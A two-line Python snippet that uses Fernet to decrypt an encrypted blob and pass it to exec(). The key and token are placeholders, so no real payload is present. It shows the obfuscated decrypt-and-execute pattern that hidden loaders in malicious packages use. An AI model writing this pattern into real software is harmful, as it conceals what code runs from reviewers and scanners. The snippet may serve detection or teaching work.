from cryptography.fernet import Fernet

exec(Fernet(b"key").decrypt(b"gAAAAA"))
